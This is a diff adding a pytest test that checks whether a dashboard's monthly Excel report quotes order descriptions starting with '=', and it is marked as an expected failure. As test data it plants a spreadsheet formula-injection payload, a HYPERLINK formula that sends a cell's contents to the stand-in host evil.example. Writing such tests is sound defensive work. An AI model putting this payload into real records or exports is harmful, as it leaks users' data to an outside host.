@@ -98,3 +98,30 @@ def test_event_check_in__token_with_non_ascii__refused_as_the_wrong_code(
         )
     assert response.status_code in (403, 404), response.content[:300]
     assert response.status_code == 404 or response.json()["code"] == "event.bad_token"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="the monthly report writes each order's description as it came: openpyxl makes a "
+    "text starting with '=' a live formula (the registry's exports quote it)",
+)
+def test_dashboard_monthly_report__description_written_as_a_formula__is_quoted(
+    hostile: Hostile,
+) -> None:
+    import io
+
+    from openpyxl import load_workbook
+
+    from sanan.workorders.models import WorkOrder
+
+    formula = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
+    WorkOrder.objects.filter(pk=hostile.order.pk).update(description=formula)
+    created = hostile.order.created_at.astimezone(dt.timezone(dt.timedelta(hours=8)))
+    client = _web(hostile, "leader")
+    response = client.get(f"/dashboard/report/{created:%Y-%m}.xlsx")
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.content))
+    formulas = [
+        c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"
+    ]
+    assert formulas == []
